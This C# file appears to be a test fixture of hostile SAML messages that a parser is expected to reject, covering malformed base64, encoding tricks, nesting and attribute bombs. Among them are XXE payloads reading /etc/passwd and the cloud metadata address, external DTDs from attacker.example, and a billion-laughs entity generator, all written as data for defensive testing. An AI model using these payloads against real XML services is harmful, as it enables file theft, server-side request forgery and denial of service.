using System.Collections.Immutable;
using System.Text;
using static RunBroker.TestIdps.Hostile;

namespace RunBroker.TestIdps;

/// <summary>S-001 to S-010: what comes before there is XML, and XML that is none or costs too much.</summary>
internal static class HostileTransport
{
    public static ImmutableArray<HostileMessage> Fields { get; } =
    [
        Field("field-empty", "S-002", "NotBase64", "The field is empty.", _ => ""),
        Field("field-blank", "S-002", "NotBase64", "The field holds blanks only.", _ => " \r\n\t "),
        Field("field-percent", "S-002", "NotBase64", "The field is still percent-encoded.",
            m => Uri.EscapeDataString(Convert.ToBase64String(m)) + "%3D%"),
        Field("field-xml", "S-002", "NotBase64", "XML without base64.", Encoding.UTF8.GetString),
        Field("field-base64url", "S-002", "NotBase64", "The alphabet of base64url.", _ => "PD94bWwg-_-_"),
        Field("field-cut", "S-002", "NotBase64", "base64 without its padding.", _ => "PGEvPg"),
        Field("field-second-spelling", "S-002", "NotBase64", "base64 whose unused bits are set: another spelling of the same octets.",
            _ => "PGEvPh=="),
        Field("field-text", "S-002", "NotXml", "A sentence.", _ => Base64("Please let me in.")),
        Field("field-json", "S-002", "NotXml", "JSON.", _ => Base64("{\"sub\":\"u-0001\"}")),
        Field("field-blank-xml", "S-002", "NotXml", "base64 of a blank.", _ => Base64(" ")),
        Field("field-noise", "S-002", "NotUtf8", "Octets that are no text.", _ => Convert.ToBase64String([0x80, 0xFF, 0xC1, 0xFE, 0x9D])),
        Field("field-deflated", "S-004", "NotUtf8", "DEFLATE, as the Redirect binding has it, in a form.",
            m => Convert.ToBase64String([0xFF, .. TestRedirect.Deflate(m)])),
        Field("field-gzip", "S-004", "NotUtf8", "gzip in a form.", m => Convert.ToBase64String([0x1F, 0x8B, 0x08, .. m])),
        Field("field-too-large", "S-001", "TooLarge", "A megabyte of base64.", _ => Convert.ToBase64String(new byte[1024 * 1024])),
        Field("field-too-large-message", "S-001", "TooLarge", "A good message behind 300 KB of blanks.",
            m => Convert.ToBase64String([.. Encoding.UTF8.GetBytes(new string(' ', 300 * 1024)), .. m])),
    ];

    public static ImmutableArray<HostileMessage> Doctypes { get; } =
    [
        Doctype("doctype-empty", "An empty document type declaration.", "<!DOCTYPE Response>"),
        Doctype("doctype-internal", "An entity that stands for the victim's name.", "<!DOCTYPE r [<!ENTITY who \"u-0001\">]>", "&who;"),
        Doctype("doctype-external-file", "An entity that reads a file.", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "&x;"),
        Doctype("doctype-external-http", "An entity that is fetched.",
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>", "&x;"),
        Doctype("doctype-external-subset", "A document type that is fetched.", "<!DOCTYPE r SYSTEM \"http://attacker.example/r.dtd\">"),
        Doctype("doctype-public", "A document type with a public identifier.",
            "<!DOCTYPE r PUBLIC \"-//X//Y\" \"http://attacker.example/r.dtd\">"),
        Doctype("doctype-parameter-entity", "A parameter entity that is fetched.",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/p.dtd\"> %p;]>"),
        Doctype("doctype-after-comment", "The declaration stands behind a comment.", "<!-- hello --><!DOCTYPE r>"),
        Doctype("doctype-after-instruction", "The declaration stands behind a processing instruction.", "<?x y?>\n<!DOCTYPE r>"),
        Doctype("doctype-default-attribute", "A declaration gives every assertion an ID attribute.",
            "<!DOCTYPE r [<!ATTLIST Assertion ID CDATA \"_forged\">]>"),
        Doctype("doctype-notation", "A notation with a system identifier.", "<!DOCTYPE r [<!NOTATION n SYSTEM \"calc\">]>"),
        Doctype("entity-bomb", "Entities that grow tenfold at each of ten levels.", Laughs(), "&l9;"),
        Doctype("entity-quadratic", "One long entity, used ten thousand times.",
            $"<!DOCTYPE r [<!ENTITY a \"{new string('a', 20_000)}\">]>", string.Concat(Enumerable.Repeat("&a;", 10_000))),
        Doctype("entity-itself", "An entity that holds itself.", "<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>", "&a;"),
    ];

    public static ImmutableArray<HostileMessage> Xml { get; } =
    [
        Text("xml-two-roots", "S-008", "NotXml", "A second root with a forged response follows.", t => t + t),
        Text("xml-trailing-text", "S-008", "NotXml", "Text follows the root.", t => t + "admin"),
        Text("xml-leading-text", "S-008", "NotXml", "Text stands before the root.", t => "admin" + t),
        Text("xml-cut", "S-008", "NotXml", "The end is missing.", t => t[..^20]),
        Text("xml-declaration-late", "S-008", "NotXml", "The XML declaration is not at the beginning.", t => " <?xml version=\"1.0\"?>"
            + t),
        Text("xml-version-1.1", "S-008", "NotXml", "XML 1.1 has other rules for characters and names.", t => "<?xml version=\"1.1\"?>" + t),
        Text("xml-undefined-entity", "S-008", "NotXml", "An entity that nobody declared.", t => t.Swap(">u-1000<", ">&admin;<")),
        Text("xml-undeclared-prefix", "S-008", "NotXml", "An element with a prefix that nobody declared.",
            t => t.Swap("<saml:Subject>", "<saml:Subject><no:x/>")),
        Text("xml-same-attribute-twice", "S-008", "NotXml", "Two ID attributes on one element.",
            t => t.Swap("<saml:Assertion ", "<saml:Assertion ID=\"_x\" ")),
        Text("xml-same-attribute-by-prefix", "S-008", "NotXml", "Two prefixes of one namespace make one attribute twice.",
            t => t.Swap("<saml:Subject>", "<saml:Subject xmlns:p=\"u:x\" xmlns:q=\"u:x\" p:a=\"1\" q:a=\"2\">")),
        Text("xml-nul", "S-008", "NotXml", "A NUL character in the NameID.", t => t.Swap(">u-1000<", ">u-1000\0<")),
        Text("xml-nul-reference", "S-008", "NotXml", "A reference to the NUL character.", t => t.Swap(">u-1000<", ">u-1000&#0;<")),
        Text("xml-control-character", "S-008", "NotXml", "A character that XML does not allow.", t => t.Swap(">u-1000<", ">u-1000\u0001<")),
        Text("xml-reserved-prefix", "S-008", "NotXml", "The prefix xml is bound to another namespace.",
            t => t.Swap("<saml:Subject>", "<saml:Subject xmlns:xml=\"u:x\">")),
        Text("xml-cdata-open", "S-008", "NotXml", "A CDATA section without an end.", t => t.Swap(">u-1000<", "><![CDATA[u-1000<")),
        Text("xml-comment-dashes", "S-008", "NotXml", "Two dashes inside a comment.", t => t.Swap(">u-1000<", "><!-- -- -->u-1000<")),
        Octets("xml-overlong", "S-008", "NotUtf8", "An overlong UTF-8 spelling of a slash.", m => [.. m, 0xC0, 0xAF]),
        Octets("xml-surrogate", "S-008", "NotUtf8", "Half of a surrogate pair in UTF-8.", m => [.. m, 0xED, 0xA0, 0x80]),
        Octets("xml-latin1", "S-009", "NotUtf8", "ISO-8859-1, as declared.",
            m => Encoding.Latin1.GetBytes("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><!-- \u00E9 -->" + Encoding.UTF8.GetString(m))),
        Octets("xml-utf16", "S-009", "NotUtf8", "UTF-16 with its mark.",
            m => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(m))]),
        Octets("xml-utf16-unmarked", "S-009", "NotUtf8", "UTF-16 without a mark.",
            m => Encoding.BigEndianUnicode.GetBytes(Encoding.UTF8.GetString(m))),
        Octets("xml-utf16-doctype", "S-006", "NotUtf8", "A document type declaration in UTF-16.",
            m => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<!DOCTYPE r>" + Encoding.UTF8.GetString(m))]),
        Text("xml-declared-utf16", "S-009", "NotUtf8", "UTF-8 that calls itself UTF-16.", t => "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + t),
        Text("xml-declared-utf7", "S-009", "NotUtf8", "UTF-7, where some readers find other characters.",
            t => "<?xml version=\"1.0\" encoding=\"UTF-7\"?>" + t),
        Octets("xml-utf32", "S-009", "NotUtf8", "UTF-32.",
            m => [.. Encoding.UTF32.GetPreamble(), .. Encoding.UTF32.GetBytes(Encoding.UTF8.GetString(m))]),
        Bomb("bomb-depth", "Elements nested 12,000 deep.", () => Nested(12_000, "e")),
        Bomb("bomb-depth-60", "Elements nested a little too deep.", () => Nested(60, "e")),
        Bomb("bomb-depth-signatures", "Signatures nested in signatures.",
            () => Nested(60, "ds:Signature", $" xmlns:ds=\"{SamlUris.Dsig}\"")),
        Bomb("bomb-attributes", "Thousands of attributes on one element.", () => $"<e{Many(5_000, i => $" a{i}=\"\"")}/>"),
        Bomb("bomb-namespaces", "Thousands of namespace declarations on one element.",
            () => $"<e{Many(5_000, i => $" xmlns:n{i}=\"u:{i}\"")}/>"),
        Bomb("bomb-namespaces-nested", "Dozens of namespace declarations at each of many levels.",
            () => Many(40, l => $"<e{Many(100, i => $" xmlns:n{i}=\"u:{l}.{i}\"")}>") + Many(40, _ => "</e>")),
        Bomb("bomb-elements", "Tens of thousands of elements.", () => Many(20_000, _ => "<e/>")),
        Bomb("bomb-comments", "Tens of thousands of comments.", () => Many(20_000, _ => "<!---->")),
        Bomb("bomb-instructions", "Tens of thousands of processing instructions.", () => Many(20_000, _ => "<?a?>")),
    ];

    private static HostileMessage Doctype(string name, string how, string declaration, string? nameId = null) => Text(name,
        name.StartsWith("entity", StringComparison.Ordinal) || nameId is not null ? "S-007" : "S-006", "Doctype", how,
        t => declaration + (nameId is null ? t : t.Swap(">u-1000<", $">{nameId}<")));

    private static HostileMessage Bomb(string name, string how, Func<string> inside) => Text(name, "S-010", "TooComplex", how,
        t => t.Swap("<samlp:Status>", $"<samlp:Extensions>{inside()}</samlp:Extensions><samlp:Status>"));

    private static string Nested(int deep, string element, string declared = "") =>
        $"<{element}{declared}>" + Many(deep, _ => $"<{element}>") + Many(deep, _ => $"</{element}>") + $"</{element}>";

    private static string Many(int count, Func<int, string> part) => string.Concat(Enumerable.Range(0, count).Select(part));
    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Laughs() =>
        "<!DOCTYPE r [<!ENTITY l0 \"ha\">" + Many(9, i => $"<!ENTITY l{i + 1} \"{Many(10, _ => $"&l{i};")}\">") + "]>";
}
